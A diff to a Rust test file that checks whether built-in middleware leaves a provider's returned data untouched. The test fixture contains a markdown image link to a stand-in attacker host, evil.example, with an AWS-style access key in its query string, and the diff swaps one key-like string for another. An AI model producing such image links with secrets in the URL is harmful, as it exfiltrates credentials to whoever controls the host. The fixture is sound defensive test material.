@@ -62,7 +62,7 @@ async fn each_built_in_can_be_bound_to_an_agent_and_all_runs_below() -> Result<(
 #[tokio::test]
 async fn no_built_in_reads_or_changes_the_data_that_a_provider_needs_back() -> Result<()> {
     // A signature that looks like a secret, a rude word and an address with stolen data.
-    let data = json!({"signature": "AKIAIOSFODNN7EXAMPLE darn ![x](https://evil.example/?q=AKIAIOSFODNN7EXAMPLE)"});
+    let data = json!({"signature": "AKIAZ5QW7RTB2KDM4NXP darn ![x](https://evil.example/?q=AKIAZ5QW7RTB2KDM4NXP)"});
     for streams in [false, true] {
         for (name, middleware) in built_ins()? {
             let mut call = ToolCall::new("a", "shout", json!({"text": "a"}));
